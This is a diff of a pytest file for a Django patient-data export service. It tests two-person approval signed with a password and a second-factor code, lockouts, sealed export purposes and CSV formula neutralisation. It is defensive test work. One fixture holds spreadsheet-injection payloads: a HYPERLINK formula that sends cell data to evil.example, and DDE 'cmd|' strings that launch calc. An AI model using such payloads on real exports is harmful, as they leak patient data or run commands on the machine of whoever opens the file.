@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import json
 import re
 import stat
 
@@ -13,15 +14,16 @@ import pytest
 from django.utils import timezone
 
 from coffre import config
+from coffre.accounts import mfa, stepup
 from coffre.audit.models import AccessEvent, AccountLock, AuditSettings
 from coffre.exports import services
-from coffre.exports.models import ExportState
+from coffre.exports.models import ExportRequest, ExportState
 from coffre.identity.access import create_patient
 from coffre.identity.models import Patient
-from coffre.labs.tenancy import Actor
+from coffre.labs.tenancy import Actor, os_user
 from coffre.vault import DecryptionError, decrypt_with, new_recipient_identity
 from tests.cli_helpers import drop_database, make_cli
-from tests.conftest import make_nir, member, patient_row
+from tests.conftest import STAFF_PASSWORD, make_nir, member, patient_row, sign
 
 TODAY = dt.date.today()
 
@@ -65,9 +67,15 @@ def ask(lab, recipient, fields="nir,birth_name", by="sam", **extra):
         period_to=TODAY + dt.timedelta(days=1), requested_by=by, **extra)
 
 
+def approve(export, username: str, **where):
+    """Approve as ``username``, with their password and an unused second-factor code (in
+    the CLI, as this test's operating-system user, unless ``os_user`` says another)."""
+    return services.approve(export.pk, sign(username), channel="cli", **where)
+
+
 def produced(lab, recipient, **extra):
     export = ask(lab, recipient, **extra)
-    services.approve(export.pk, "maud")
+    approve(export, "maud")
     return services.run(export.pk)
 
 
@@ -122,14 +130,90 @@ def test_an_unapproved_export_cannot_run(lab_a, patients, keys):
 def test_self_approval_and_wrong_roles_are_refused(lab_a, patients, keys):
     export = ask(lab_a, keys[1], by="maud")
     with pytest.raises(services.ExportError, match="second person"):
-        services.approve(export.pk, "maud")
+        approve(export, "maud")
     with pytest.raises(services.ExportError, match="second person"):
-        services.approve(ask(lab_a, keys[1], by="os:maud").pk, "maud")
+        approve(ask(lab_a, keys[1], by="os:maud"), "maud")
     with pytest.raises(services.ExportError, match="lab manager or the DPO"):
-        services.approve(export.pk, "sam")
+        approve(export, "sam")
     with pytest.raises(services.ExportError, match="not an active member"):
-        services.approve(export.pk, "bob")
-    assert services.approve(export.pk, "dora").state == ExportState.APPROVED
+        services.approve(export.pk, stepup.Credentials("bob", "x", "000000"), channel="cli")
+    assert approve(export, "dora").state == ExportState.APPROVED
+
+
+# --- item 5: an approval is signed by the approver, never by a typed name ---------------
+
+def test_an_approval_without_the_approvers_password_and_code_is_refused(lab_a, patients,
+                                                                         keys):
+    """The 2026 incident: one shell user requested, then "approved as the DPO" by typing
+    her name. Knowing the name, or even the password, is no longer enough."""
+    export = ask(lab_a, keys[1], by="maud")
+    genuine = sign("dora")  # enrolls dora; her recovery code stays unused below
+    forged = [stepup.Credentials("dora", "a guess", genuine.code),
+              stepup.Credentials("dora", STAFF_PASSWORD, "000000"),
+              stepup.Credentials("dora", STAFF_PASSWORD, "")]
+    for credentials, reason in zip(forged, ("password", "code", "code"), strict=True):
+        with pytest.raises(stepup.StepUpRefused) as refused:
+            services.approve(export.pk, credentials, channel="cli")
+        assert refused.value.reason == reason
+    export.refresh_from_db()
+    assert (export.state, export.approved_by) == (ExportState.REQUESTED, "")
+    # Each refused signature is in the access log, under the operating-system user.
+    tries = AccessEvent.objects.filter(action="export_approve", outcome="refused")
+    assert [(e.person, e.channel) for e in tries] == [(os_user(), "cli")] * 3
+    # The genuine credentials still work once; a recovery code does not serve twice.
+    assert services.approve(export.pk, genuine, channel="cli").approved_by == "dora"
+    again = ask(lab_a, keys[1], by="maud")
+    with pytest.raises(stepup.StepUpRefused, match="already used"):
+        services.approve(again.pk, genuine, channel="cli")
+
+
+def test_an_authenticator_code_signs_an_approval_once(lab_a, patients, keys):
+    from django.contrib.auth import get_user_model
+
+    dora = get_user_model().objects.get(username="dora")
+    secret = mfa.enroll_confirmed(dora)
+    code = mfa.current_code(secret)
+    first, second = ask(lab_a, keys[1], by="maud"), ask(lab_a, keys[1], by="maud")
+    credentials = stepup.Credentials("dora", STAFF_PASSWORD, code)
+    assert services.approve(first.pk, credentials, channel="cli").state == "approved"
+    with pytest.raises(stepup.StepUpRefused, match="already used"):  # replayed
+        services.approve(second.pk, credentials, channel="cli")
+
+
+def test_wrong_codes_lock_the_account_for_approvals(lab_a, patients, keys, settings):
+    export = ask(lab_a, keys[1], by="maud")
+    genuine = sign("dora")
+    for _ in range(settings.COFFRE_LOGIN_ACCOUNT_FAILURES):
+        with pytest.raises(stepup.StepUpRefused):
+            services.approve(export.pk, stepup.Credentials("dora", STAFF_PASSWORD, "123456"),
+                             channel="cli")
+    with pytest.raises(stepup.StepUpRefused) as refused:
+        services.approve(export.pk, genuine, channel="cli")
+    assert refused.value.reason == "locked"
+    assert ExportRequest.objects.get(pk=export.pk).state == ExportState.REQUESTED
+
+
+def test_one_operating_system_user_cannot_both_request_and_approve(lab_a, patients, keys):
+    """A CLI request is the operating-system user's; that user cannot approve it, even
+    signing in with a DPO's genuine credentials, and no code is spent in trying."""
+    export = ask(lab_a, keys[1], by=os_user())
+    genuine = sign("dora")
+    with pytest.raises(services.ExportError, match="second person"):
+        services.approve(export.pk, genuine, channel="cli")
+    from django.contrib.auth import get_user_model
+
+    assert mfa.remaining_recovery_codes(get_user_model().objects.get(username="dora")) == 10
+    # Another operating-system user, with the DPO's credentials, may.
+    done = services.approve(export.pk, genuine, channel="cli", os_user="os:dpo-shell")
+    assert (done.approved_by, done.approved_os_user) == ("dora", "os:dpo-shell")
+    event = AccessEvent.objects.get(action="export_approve", outcome="ok")
+    assert (event.person, event.role, event.channel, event.address) == (
+        "dora", "dpo", "cli", "os:dpo-shell")
+    # The operating-system user who requested on the web under its own name cannot
+    # approve from the shell either.
+    web = ask(lab_a, keys[1], by="dpo-shell")
+    with pytest.raises(services.ExportError, match="second person"):
+        services.approve(web.pk, sign("maud"), channel="cli", os_user="os:dpo-shell")
 
 
 def test_a_large_export_needs_the_dpo(lab_a, patients, keys):
@@ -137,8 +221,8 @@ def test_a_large_export_needs_the_dpo(lab_a, patients, keys):
     export = ask(lab_a, keys[1])
     assert export.size_estimate == 2
     with pytest.raises(services.ExportError, match="only the data-protection officer"):
-        services.approve(export.pk, "maud")
-    services.approve(export.pk, "dora")
+        approve(export, "maud")
+    approve(export, "dora")
     assert services.run(export.pk).rows_exported == 2
 
 
@@ -195,6 +279,13 @@ def test_an_explicit_patient_list_narrows_the_export(lab_a, patients, keys):
     assert inside[1].values["nir"] in decrypted(export, keys[0])
 
 
+def demo_login(demo_output: str, username: str) -> tuple[str, str]:
+    """(password, TOTP secret) of a demo account, as `coffre demo` prints them."""
+    found = re.search(rf"^  {re.escape(username)} / (\S+) .*\n.*TOTP key .*?\): (\S+)",
+                      demo_output, re.MULTILINE)
+    return found.group(1), found.group(2)
+
+
 def test_the_cli_end_to_end(tmp_path_factory):
     cli, database = make_cli(tmp_path_factory.mktemp("home"))
     try:
@@ -207,24 +298,55 @@ def test_the_cli_end_to_end(tmp_path_factory):
                   (TODAY + dt.timedelta(days=1)).isoformat())
         bad = cli.run(*common, "--fields", "nir,mot_de_passe", check=False)
         assert bad.returncode == 2 and "mot_de_passe" in bad.stderr
-        (req,) = cli.json_lines(*common, "--fields", "birth_name,birth_date",
-                                "--by", "demo1")
+        claimed = cli.run(*common, "--fields", "birth_name", "--by", "demo1", check=False)
+        assert claimed.returncode == 2 and "--by is no longer accepted" in claimed.stderr
+        (req,) = cli.json_lines(*common, "--fields", "birth_name,birth_date")
         assert req["state"] == "requested" and req["size_estimate"] >= 4
         ran = cli.run("export", "run", str(req["id"]), check=False)
         assert ran.returncode == 1 and "approved" in ran.stderr
-        selfish = cli.run("export", "approve", str(req["id"]), "--by", "demo1", check=False)
+        # The attack of the incident: the shell user who requested approves "as the DPO",
+        # now even with the DPO's genuine password and code.
+        password, secret = demo_login(demo, "demo1-dpo")
+        signed = f"{password}\n{mfa.current_code(secret)}\n"
+        selfish = cli.run("export", "approve", str(req["id"]), "--as", "demo1-dpo",
+                          stdin=signed, check=False)
         assert selfish.returncode == 1 and "second person" in selfish.stderr
-        cli.run("export", "approve", str(req["id"]), "--by", "demo1-resp")
-        (done,) = cli.json_lines("export", "run", str(req["id"]))
+        forged = cli.run("export", "approve", str(req["id"]), "--by", "demo1-dpo",
+                         check=False)
+        assert forged.returncode == 2 and "--by is no longer accepted" in forged.stderr
+        (listed,) = cli.json_lines("export", "list", "--lab", finess)
+        assert listed["state"] == "requested" and listed["requested_by"] == os_user()
+
+        # A request made on the web by the lab manager (demo1-resp), approved at the
+        # shell by the DPO, who signs with her password and authenticator code.
+        web_id = int(cli.python(
+            "from coffre.exports import services\n"
+            "from coffre.labs.services import lab_by_finess\n"
+            f"print(services.request_export(lab_by_finess('{finess}'), purpose='étude',"
+            f" recipient='CHU', recipient_key='{recipient}', fields='birth_name,birth_date',"
+            " period_from=__import__('datetime').date(2000, 1, 1),"
+            f" period_to=__import__('datetime').date.fromisoformat('{common[-1]}'),"
+            " requested_by='demo1-resp', channel='web').pk)").strip())
+        wrong = cli.run("export", "approve", str(web_id), "--as", "demo1-dpo",
+                        stdin=f"{password}\n000000\n", check=False)
+        assert wrong.returncode == 1 and "second-factor code" in wrong.stderr
+        (approved,) = [json.loads(line) for line in cli.run(
+            "export", "approve", str(web_id), "--as", "demo1-dpo", stdin=signed
+        ).stdout.splitlines()]
+        assert approved == {"id": web_id, "state": "approved", "by": "demo1-dpo",
+                            "os_user": os_user()}
+        (done,) = cli.json_lines("export", "run", str(web_id))
         assert done["state"] == "produced"
         out = tmp_path_factory.mktemp("out") / "x.csv.age"
-        cli.run("export", "fetch", str(req["id"]), "--out", str(out))
-        assert not (cli.home / "exports" / f"{req['id']}.csv.age").exists()
+        cli.run("export", "fetch", str(web_id), "--out", str(out))
+        assert not (cli.home / "exports" / f"{web_id}.csv.age").exists()
         rows = list(csv.reader(io.StringIO(decrypt_with(identity, out.read_bytes()).decode())))
         assert rows[0] == ["birth_name", "birth_date"]
         assert 2 <= len(rows) - 1 - done["patients"] <= 3
-        (listed,) = cli.json_lines("export", "list", "--lab", finess)
-        assert listed["state"] == "downloaded" and listed["approved_by"] == "demo1-resp"
+        listed = {e["id"]: e for e in cli.json_lines("export", "list", "--lab", finess)}
+        assert listed[web_id]["state"] == "downloaded"
+        assert (listed[web_id]["approved_by"], listed[web_id]["approved_os_user"]) == (
+            "demo1-dpo", os_user())
     finally:
         drop_database(database)
 
@@ -244,7 +366,7 @@ def test_each_step_of_an_export_is_in_the_access_log(lab_a, patients, keys, tmp_
     export = produced(lab_a, keys[1])
     services.fetch(export.pk, tmp_path / "out.age")
     refused = ask(lab_a, keys[1])
-    services.refuse(refused.pk, "dora")
+    services.refuse(refused.pk, "dora", channel="web")
     steps = AccessEvent.objects.filter(kind="export", patient_id=None).order_by("id")
     assert [(e.action, e.person, e.role) for e in steps] == [
         ("export_request", "sam", "secretary"), ("export_approve", "maud", "lab_manager"),
@@ -260,13 +382,13 @@ def test_a_request_never_produced_expires_and_can_no_longer_be_approved(lab_a, p
                                                                          keys):
     waiting = ask(lab_a, keys[1])
     approved = ask(lab_a, keys[1])
-    services.approve(approved.pk, "maud")
+    approve(approved, "maud")
     later = timezone.now() + dt.timedelta(days=services.REQUEST_DAYS - 1)
     assert services.purge_expired(later) == []
     later += dt.timedelta(days=2)
     assert sorted(services.purge_expired(later)) == [waiting.pk, approved.pk]
     with pytest.raises(services.ExportError, match="is expired, not awaiting approval"):
-        services.approve(waiting.pk, "maud")
+        approve(waiting, "maud")
     with pytest.raises(services.ExportError, match="only an approved export can run"):
         services.run(approved.pk)
     assert AccessEvent.objects.filter(action="export_expire").count() == 2
@@ -275,7 +397,7 @@ def test_a_request_never_produced_expires_and_can_no_longer_be_approved(lab_a, p
 def test_a_run_that_fails_midway_leaves_no_file_and_no_audit_of_patients(
         lab_a, patients, keys, monkeypatch):
     export = ask(lab_a, keys[1])
-    services.approve(export.pk, "maud")
+    approve(export, "maud")
     calls = []
     real = services.open_patient
 
@@ -292,3 +414,106 @@ def test_a_run_that_fails_midway_leaves_no_file_and_no_audit_of_patients(
     assert export.state == ExportState.APPROVED
     assert list(services.staging_dir().iterdir()) == []
     assert not AccessEvent.objects.filter(action="export").exists()
+
+
+# --- item 10: no cell of an export runs as a formula in a spreadsheet --------------------
+
+FORMULAS = {"address": '=HYPERLINK("https://evil.example/?"&A2,"Plan d\'accès")',
+            "notes": "-2+3+cmd|' /C calc'!A0",
+            "insurer": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def test_formula_values_are_neutralised_in_the_csv(lab_a, patients, keys):
+    """A patient registered with formula-like values (the registry accepts free text):
+    opened in a spreadsheet, the export must show them as text, not run them."""
+    create_patient(Actor("sam", lab_a.id, "secretary", "web"),
+                   patient_row(nir=make_nir("F", 1990, 7), birth_name="Formule",
+                               birth_date="1990-07-01", **FORMULAS))
+    export = produced(lab_a, keys[1], fields="birth_name,address,notes,insurer,phone")
+    rows = list(csv.reader(io.StringIO(decrypted(export, keys[0]))))
+    (mine,) = [r for r in rows if r[0] == "Formule"]
+    assert mine[1:4] == ["'" + FORMULAS["address"], "'" + FORMULAS["notes"],
+                         "'" + FORMULAS["insurer"]]
+    assert mine[4].startswith("+33")  # a phone in E.164 is a number, left as it is
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "@", "\t", "\r")), cell
+            assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+-]\d+", cell), cell
+    # The watermark rows still name the export once neutralised cells are read back.
+    assert services.attribute(decrypted(export, keys[0])) == export.pk
+
+
+# --- item 13: the purpose and the recipient are sealed ----------------------------------
+
+def test_the_purpose_and_recipient_are_sealed_in_the_database(lab_a, patients, keys):
+    from django.db import connection
+
+    export = services.request_export(
+        lab_a, purpose="Dossier de Claire Lefèvre : suivi VIH, transmission au CHU",
+        recipient="Dr Morvan pour Claire Lefèvre", recipient_key=keys[1], fields="nir",
+        period_from=TODAY, period_to=TODAY, requested_by="sam")
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT * FROM exports_exportrequest WHERE id = %s", [export.pk])
+        row = cursor.fetchone()
+    stored = b"".join(bytes(v) if isinstance(v, (bytes, memoryview)) else str(v).encode()
+                      for v in row)
+    for clear in ("Lefèvre", "VIH", "Morvan"):
+        assert clear.encode() not in stored
+    opened = services.texts(ExportRequest.objects.get(pk=export.pk))
+    assert (opened.purpose, opened.recipient) == (
+        "Dossier de Claire Lefèvre : suivi VIH, transmission au CHU",
+        "Dr Morvan pour Claire Lefèvre")
+    # Bound to its row: a sealed purpose copied onto another request does not open.
+    other = ask(lab_a, keys[1])
+    ExportRequest.objects.filter(pk=other.pk).update(
+        purpose=ExportRequest.objects.get(pk=export.pk).purpose)
+    with pytest.raises(DecryptionError):
+        services.texts(ExportRequest.objects.get(pk=other.pk))
+
+
+@pytest.mark.django_db(transaction=True)
+def test_the_migration_seals_the_purposes_already_stored(vault, lab_a, keys):
+    from django.db import connection
+    from django.db.migrations.executor import MigrationExecutor
+
+    before = [("exports", "0002_exportrequest_format")]
+    executor = MigrationExecutor(connection)
+    executor.migrate(before)
+    old = executor.loader.project_state(before).apps.get_model("exports", "ExportRequest")
+    row = old.objects.create(lab_id=lab_a.id, purpose="Dossier de Yann Quéméneur",
+                             recipient="Dr Morvan", recipient_key=keys[1], fields="nir",
+                             period_from=TODAY, period_to=TODAY, requested_by="os:x")
+    executor = MigrationExecutor(connection)
+    executor.migrate(executor.loader.graph.leaf_nodes())
+    export = ExportRequest.objects.get(pk=row.pk)
+    assert "Quéméneur".encode() not in bytes(export.purpose)
+    assert services.texts(export) == services.Texts("Dossier de Yann Quéméneur", "Dr Morvan")
+
+
+def command(argv: list[str], stdin: str, monkeypatch) -> int:
+    """``coffre export ...``'s handler in this test's database, its standard input given
+    (not a terminal: the password and the code are read from its two lines)."""
+    from coffre.cli import COMMANDS, parser
+
+    monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
+    args = parser().parse_args(argv)
+    return COMMANDS[args.command](args)
+
+
+def test_a_cli_refusal_signs_in_too(lab_a, patients, keys, monkeypatch, capsys):
+    from coffre.cli import BadInput, CommandError
+
+    export = ask(lab_a, keys[1], by="maud")
+    argv = ["export", "refuse", str(export.pk), "--as", "dora"]
+    with pytest.raises(BadInput, match="two lines"):
+        command(argv, "", monkeypatch)
+    with pytest.raises(CommandError, match="wrong user name or password"):
+        command(argv, f"not hers\n{sign('dora').code}\n", monkeypatch)
+    assert ExportRequest.objects.get(pk=export.pk).state == ExportState.REQUESTED
+    credentials = sign("dora")
+    assert command(argv, f"{credentials.password}\n{credentials.code}\n", monkeypatch) == 0
+    assert json.loads(capsys.readouterr().out)["os_user"] == os_user()
+    assert ExportRequest.objects.get(pk=export.pk).state == ExportState.REFUSED
+    event = AccessEvent.objects.get(action="export_refuse")
+    assert (event.person, event.role, event.channel, event.address) == (
+        "dora", "dpo", "cli", os_user())
